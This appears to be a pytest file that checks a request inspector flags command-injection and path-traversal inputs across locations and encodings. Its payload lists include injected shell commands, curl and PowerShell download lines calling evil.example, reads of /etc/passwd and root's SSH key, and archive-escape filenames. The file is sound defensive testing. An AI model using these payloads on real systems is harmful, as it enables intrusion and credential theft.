"""Hostile cases B-118 and B-120: commands, options and paths, through the real inspector."""

from __future__ import annotations

import base64
from collections.abc import Callable
from urllib.parse import quote

import pytest
from tests.support.suspects import STOPS, Suspects

from vallum.inspection.detectors import path, shell
from vallum.inspection.model import Location

SUSPECTS = Suspects(path.DETECTOR, shell.DETECTOR)
PLACES: tuple[Location, ...] = ("path", "query", "header", "cookie", "body")


def _once(text: str) -> str:
    return quote(text, safe="")


def _twice(text: str) -> str:
    return _once(_once(text))


def _escaped(text: str) -> str:
    return "".join(f"\\u{ord(letter):04x}" for letter in text)


def _references(text: str) -> str:
    return "".join(f"&#{ord(letter)};" for letter in text)


def _wide(text: str) -> str:
    return "".join(chr(ord(letter) + 0xFEE0) if "!" <= letter <= "~" else letter for letter in text)


def _base64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


CODINGS: tuple[Callable[[str], str], ...] = (str, _once, _twice, _escaped, _references, _wide)
COMMANDS = (
    "; id",
    "$(id)",
    "`id`",
    "|id",
    "\nid",
    "x\nid",
    "x && curl http://evil.example/a",
    "{IFS}",
    ";cat${IFS}/etc/passwd",
    ";c'a't /etc/passwd",
    "& net user eve /add",
    "; iex (New-Object Net.WebClient).DownloadString('http://evil.example')",
)
PATHS = (
    "../../etc/passwd",
    "/etc/passwd",
    "php://filter/resource=x",
    "..\\..\\boot.ini",
    "uploads/../../../../root/.ssh/id_rsa",
)


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("text", COMMANDS)
def test_b118_command_injection_in_every_place(text: str, place: Location) -> None:
    assert SUSPECTS.score(text, place) >= STOPS


@pytest.mark.parametrize("coding", CODINGS)
@pytest.mark.parametrize("text", COMMANDS)
def test_b118_command_injection_in_every_coding(text: str, coding: Callable[[str], str]) -> None:
    assert SUSPECTS.score(coding(text)) >= STOPS


def test_b118_a_line_feed_that_is_still_encoded_parts_commands() -> None:
    assert SUSPECTS.score("127.0.0.1%0aid") >= STOPS


def test_b118_a_command_in_base64() -> None:
    assert SUSPECTS.score(_base64("x;cat /etc/passwd;whoami")) >= STOPS


@pytest.mark.parametrize("text", ["--output=/etc/x", "-oProxyCommand=x", "-rf"])
@pytest.mark.parametrize("place", PLACES)
def test_b118_an_option_as_a_value(text: str, place: Location) -> None:
    assert SUSPECTS.score(text, place, name="filename") >= STOPS


def test_b118_a_command_as_a_name() -> None:
    assert SUSPECTS.score("x;cat /etc/passwd", "body", is_name=True) >= STOPS


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("text", PATHS)
def test_b120_traversal_in_every_place(text: str, place: Location) -> None:
    assert SUSPECTS.score(text, place, name="file") >= STOPS


@pytest.mark.parametrize("coding", CODINGS)
@pytest.mark.parametrize("text", PATHS)
def test_b120_traversal_in_every_coding(text: str, coding: Callable[[str], str]) -> None:
    assert SUSPECTS.score(coding(text), name="file") >= STOPS


@pytest.mark.parametrize(
    "text",
    ["../../etc/passwd", "/etc/passwd", "C:\\", "php://", "a.php\x00.png", "..%c0%af..%c0%afx"],
)
def test_b120_the_name_of_a_file(text: str) -> None:
    assert SUSPECTS.score(text, name="file") >= STOPS


@pytest.mark.parametrize("text", ["../../../tmp/x.sh", "a/../../../x", "..\\..\\x.dll"])
def test_b120_a_name_in_an_archive_that_leaves_it(text: str) -> None:
    assert SUSPECTS.score(text, "body", name="entry") >= STOPS
